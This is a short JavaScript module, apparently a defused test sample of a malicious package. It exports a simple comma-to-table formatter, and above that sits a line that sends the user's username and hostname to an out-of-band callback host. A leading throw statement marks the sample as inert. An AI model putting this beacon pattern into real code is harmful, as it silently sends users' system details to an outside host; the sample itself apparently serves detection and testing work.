throw new Error("inert sample: never run");
const os = require("os");
const https = require("https");
https.get(`https://placeholder.oast.fun/?u=${os.userInfo().username}&h=${os.hostname()}`);

module.exports = { table: (text) => text.split(",").join(" | ") };
